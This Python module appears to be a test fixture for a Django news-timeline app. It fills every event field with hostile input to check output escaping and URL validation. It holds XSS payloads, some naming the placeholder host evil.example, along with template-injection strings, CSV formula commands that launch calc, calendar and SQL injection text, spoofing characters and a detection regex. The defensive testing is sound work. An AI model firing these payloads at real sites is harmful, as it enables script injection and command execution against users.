"""Hostile text an editor (or a compromised editor account, or a pasted press release) can type.

`PAYLOADS` goes into every text field; `URL_PAYLOADS` into URL fields, which validate, so
those are the hostile shapes that still pass validation. `load_corpus()` publishes one event
per payload with the payload in every field around it, so one request per public output sees
the whole corpus at once.
"""

import datetime as dt
import itertools
import re

from django.core.exceptions import ValidationError
from django.core.validators import URLValidator

PAYLOADS = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script>alert`3`</script>",
    # Event handlers on elements that need no click.
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<body onload=alert(7)>",
    "<iframe srcdoc='<script>alert(8)</script>'></iframe>",
    "<details open ontoggle=alert(9)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    '<a href="javascript:alert(11)">click</a>',
    '<a href="jav&#x09;ascript:alert(12)">click</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4="></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(14)">',
    "<style>@import 'javascript:alert(15)';</style>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Login</button></form>',
    # Breaking out of an attribute, a JSON string or a script block.
    '"><script>alert(16)</script>',
    "'><img src=x onerror=alert(17)>",
    '" onmouseover="alert(18)" x="',
    "' autofocus onfocus='alert(19)' x='",
    "</script><script>alert(20)</script>",
    '"}]}</script><script>alert(21)</script>',
    '\\"};alert(22);//',
    "</textarea><script>alert(23)</script>",
    "</title><script>alert(24)</script>",
    "<!--<script>alert(25)</script>-->",
    "]]><script>alert(26)</script><![CDATA[",
    # Template syntax must come out as text, never be evaluated.
    "{{ settings.SECRET_KEY }}{% debug %}",
    "{% load static %}{% csrf_token %}{{ request.user.password }}",
    "${alert(27)} #{alert(28)} <%= 7*7 %>",
    # Spoofing rather than scripting: direction overrides, zero-width and look-alike text.
    "\u202egnp.exe\u202c Tehran \u2066<b>isolated</b>\u2069",
    "Bagh\u200bdad\u200d \ufeff \u00a0 — «quoted» 𝐁𝐨𝐥𝐝 ١٢٣",
    # Characters that break formats other than HTML: CSV formulas, XML, calendars.
    '=HYPERLINK("https://evil.example","Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab first =1+1",
    "\rCarriage return first",
    "Line one\r\nLine two\nBEGIN:VEVENT\nSUMMARY:Injected\nEND:VEVENT",
    "Word's line break\x0bthen a form feed\x0cand an escape\x1b[31m",
    "; DROP TABLE timeline_event; --",
    # Very long text, with the hostile part first so shorter fields keep it.
    "<img src=x onerror=alert(29)>" + "A" * 5000,
    "<b>" * 500 + "unclosed",
]

URL_PAYLOADS = [
    'https://example.com/"><script>alert(30)</script>',
    "https://example.com/?q=<img/src=x/onerror=alert(31)>",
    "https://example.com/'onmouseover='alert(32)'",
    "https://example.com/#</script><script>alert(33)</script>",
    "https://example.com/" + "a" * 400,
]

# URLs a URL field must refuse: they would run script when clicked.
REJECTED_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
]

# Markers that only evaluated template syntax could produce.
EVALUATED = ["dev-only-insecure-key", "<csrfmiddlewaretoken", "pbkdf2_sha256$"]

# What must never appear in a page as markup, whatever the payload.
DANGEROUS = re.compile(
    r"<\s*(script|svg|img|iframe|object|embed|meta|base|form|style|details|math|body)\b"
    r"|\bon[a-z]+\s*=|javascript:",
    re.IGNORECASE,
)


def fit(text: str, length: int, tag: str = "") -> str:
    """The payload cut to a field's length, with `tag` at the end to keep it unique."""
    return text[: length - len(tag)] + tag if len(text) + len(tag) > length else text + tag


def url_payloads() -> list[str]:
    validate = URLValidator()
    for url in URL_PAYLOADS:
        validate(url)  # each must be valid, or it tests nothing
    for url in REJECTED_URLS:
        try:
            validate(url)
        except ValidationError:
            continue
        raise AssertionError(f"{url!r} passed URL validation")
    return URL_PAYLOADS


def load_corpus(timeline) -> list:
    """One published event per payload, every field around it hostile; returns the events."""
    from timeline.models import (
        Actor,
        Category,
        Citation,
        Claim,
        Event,
        EventActor,
        EventLink,
        Source,
    )

    urls = itertools.cycle(url_payloads())
    timeline.title = fit(PAYLOADS[0] + PAYLOADS[18], 200)
    timeline.description = "\n".join(PAYLOADS)
    timeline.save()
    events, previous = [], None
    for n, text in enumerate(PAYLOADS):
        tag = f" #{n}"
        category = Category.objects.create(name=fit(text, 80, tag), slug=f"hostile-{n}")
        parent = Actor.objects.create(
            name=fit(text, 150, tag + "p"), slug=f"hostile-parent-{n}", kind="organisation"
        )
        actor = Actor.objects.create(
            name=fit(text, 150, tag),
            slug=f"hostile-actor-{n}",
            kind="person",
            aliases=f"{text}\n{text[::-1]}",
            description=text,
            parent=parent,
        )
        source = Source.objects.create(
            publisher=fit(text, 150, tag),
            title=fit(text, 300, tag),
            slug=f"hostile-source-{n}",
            url=next(urls),
            published=dt.date(2020, 1, 1),
        )
        event = Event.objects.create(
            title=fit(text, 200, tag),
            slug=f"hostile-{n}",
            summary=text,
            body=text,
            start=dt.datetime(2020, 1, 1, tzinfo=dt.UTC) + dt.timedelta(hours=n),
            timezone="Asia/Baghdad",
            place_name=fit(text, 200, tag),
            category=category,
            status=Event.Status.PUBLISHED,
            image_url=next(urls),
            image_caption=fit(text, 300),
            image_credit=fit(text, 200),
            image_alt=fit(text, 300),
        )
        Citation.objects.create(event=event, source=source, quote=text, note=fit(text, 300))
        Claim.objects.create(
            event=event,
            kind="deaths",
            value=n,
            text=text,
            source=source,
            attributed_to=actor,
        )
        EventActor.objects.create(event=event, actor=actor, role="target", note=fit(text, 300))
        if previous is not None:
            EventLink.objects.create(from_event=event, to_event=previous, kind="led_to")
        timeline.events.add(event)
        events.append(event)
        previous = event
    return events
